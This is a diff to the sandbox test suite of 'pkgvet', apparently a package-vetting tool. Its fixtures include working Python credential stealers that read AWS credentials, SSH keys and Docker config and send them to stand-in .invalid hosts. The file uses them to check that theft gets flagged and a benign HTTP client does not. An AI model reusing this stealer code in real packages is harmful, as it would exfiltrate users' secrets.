@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from builders import BENIGN_SETUP, make_sdist, make_wheel
-from pkgvet.model import Phase
+from pkgvet.model import Finding, Phase, Severity, Verdict
 from pkgvet.sandbox import SandboxSettings, SandboxUnavailable, check_ready, persona
 from pkgvet.sandbox.canonical import canonical_name
 from pkgvet.sandbox.execute import arguments, plan, public_callables
@@ -27,6 +27,7 @@ from pkgvet.sandbox.persona import (
 from pkgvet.sandbox.persona.delivery import project_name
 from pkgvet.sandbox.runner import Outcome, run
 from pkgvet.sources.local import local_artifact
+from pkgvet.verdict import decide
 
 IMAGE = os.environ.get("PKGVET_SANDBOX_IMAGE", SandboxSettings().image)
 
@@ -204,9 +205,105 @@ def test_entry_point_only_payload_runs_in_the_execute_phase(tmp_path: Path) -> N
     })
     outcome = _run(path, tmp_path)
     (finding, *_) = _rules(outcome)["PV804"]
-    assert "whoami" in finding.snippet and finding.phase is Phase.IMPORT
+    # recorded, as runtime behaviour: one kind of behaviour when called is only low
+    assert "whoami" in finding.snippet and finding.phase is Phase.RUNTIME
+    assert finding.severity is Severity.LOW
     labels = [r.get("label") for r in outcome.records if r.get("type") == "phase_start"]
     assert "qt --help" in labels and "quiettool" in labels
+
+
+ENTRY_POINT_STEALER = """\
+import os
+import socket
+
+
+def main():
+    try:
+        with open(os.path.expanduser("~/.aws/credentials")) as fh:
+            blob = fh.read()
+    except OSError:
+        blob = ""
+    try:
+        with socket.create_connection(("collect.pkgvet-test.invalid", 443), timeout=3) as c:
+            c.sendall(blob.encode()[:300])
+    except OSError:
+        pass
+"""
+
+CALLED_STEALER = """\
+import glob
+import os
+import urllib.request
+
+
+def sync_settings(target):
+    found = {}
+    for pattern in ("~/.ssh/id_*", "~/.aws/credentials", "~/.docker/config.json"):
+        for path in glob.glob(os.path.expanduser(pattern)):
+            try:
+                found[path] = open(path).read()[:200]
+            except OSError:
+                pass
+    try:
+        urllib.request.urlopen("https://hooks.pkgvet-test.invalid/s",
+                               data=repr(found).encode(), timeout=3)
+    except Exception:
+        pass
+"""
+
+HTTP_CLIENT_LOOKALIKE = """\
+import netrc
+import os
+import socket
+
+
+class Client:
+    def __init__(self, base="api.pkgvet-test.invalid"):
+        self.base = base
+        try:
+            self.auth = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators(base)
+        except (OSError, netrc.NetrcParseError):
+            self.auth = None
+
+    def fetch(self, path):
+        try:
+            with socket.create_connection((self.base, 443), timeout=3) as conn:
+                conn.sendall(b"GET " + path.encode() + b" HTTP/1.0\\r\\n\\r\\n")
+        except OSError:
+            pass
+
+
+def get(path):
+    return Client().fetch(path)
+"""
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+@pytest.mark.parametrize("where", ["entry-point", "called-function"])
+def test_a_stealer_run_by_the_user_is_still_flagged(tmp_path: Path, where: str) -> None:
+    files = ({"stealtool/__init__.py": "", "stealtool/cli.py": ENTRY_POINT_STEALER,
+              "stealtool-1.0.dist-info/entry_points.txt":
+                  "[console_scripts]\nst = stealtool.cli:main\n"}
+             if where == "entry-point" else
+             {"stealtool/__init__.py": "", "stealtool/sync.py": CALLED_STEALER})
+    outcome = _run(make_wheel(tmp_path, "stealtool", "1.0", files), tmp_path)
+    found = _rules(outcome)
+    assert any(f.phase is Phase.RUNTIME and f.severity >= Severity.HIGH
+               for f in found.get("PV801", [])), sorted(found)
+    assert outcome.report.verdict is not Verdict.BENIGN
+
+
+@pytest.mark.sandbox
+@pytest.mark.usefixtures("engine_ready")
+def test_a_client_doing_its_job_when_called_is_not_flagged(tmp_path: Path) -> None:
+    """Reading ~/.netrc and connecting to its own API host when called with placeholders is
+    what an HTTP client is for (httpx did both): recorded, low, and no sandbox flag."""
+    path = make_wheel(tmp_path, "tinyhttp", "1.0", {"tinyhttp/__init__.py": HTTP_CLIENT_LOOKALIKE})
+    outcome = _run(path, tmp_path)
+    runtime = [f for f in outcome.findings if f.phase is Phase.RUNTIME]
+    assert runtime and all(f.severity <= Severity.LOW for f in runtime), runtime
+    assert outcome.report.verdict is Verdict.BENIGN
 
 
 @pytest.mark.sandbox
@@ -376,3 +473,42 @@ def test_a_failed_install_is_tried_again_the_way_its_failure_calls_for() -> None
     assert why == "without dependencies" and "--no-deps" in offline
     assert next_install(offline, "No matching distribution found for hatchling") is None
     assert next_install(base, "error: invalid command 'bdist_wheel'") is None
+
+
+# --- the execute phase's weight (no engine) ----------------------------------------------------
+
+
+def _found(rule_id: str, snippet: str, phase: Phase = Phase.RUNTIME) -> Finding:
+    from pkgvet.registry import rule
+
+    return rule(rule_id).finding(phase=phase, snippet=snippet)
+
+
+def test_one_kind_of_behaviour_when_called_is_low() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    client = weigh([_found("PV801", "~/.netrc"), _found("PV806", "connect api.example.com:443")])
+    assert all(f.severity is Severity.LOW for f in client)
+    assert decide(client) is Verdict.BENIGN
+    alone = weigh([_found("PV802", "~/.config/gh/hosts.yml (absent)")])
+    assert alone[0].severity is Severity.LOW
+
+
+def test_theft_when_called_keeps_its_grade() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    theft = weigh([_found("PV801", "~/.ssh/id_rsa"), _found("PV806", "connect x.invalid:443")])
+    assert all(f.severity is Severity.HIGH for f in theft) and decide(theft) is not Verdict.BENIGN
+    sweep = weigh([_found("PV801", "~/.ssh/id_rsa"), _found("PV802", "~/.docker/config.json"),
+                   _found("PV801", "~/.aws/credentials")])
+    assert decide(sweep) is not Verdict.BENIGN
+    exfil = weigh([_found("PV803", "data sent to x:443: AKIA...")])
+    assert exfil[0].severity is Severity.CRITICAL
+
+
+def test_install_and_import_time_findings_are_not_weighed() -> None:
+    from pkgvet.sandbox.runtime_weight import weigh
+
+    found = weigh([_found("PV802", "~/.netrc", Phase.IMPORT), _found("PV806", "lookup a.b",
+                                                                      Phase.INSTALL)])
+    assert all(f.severity is Severity.HIGH for f in found)
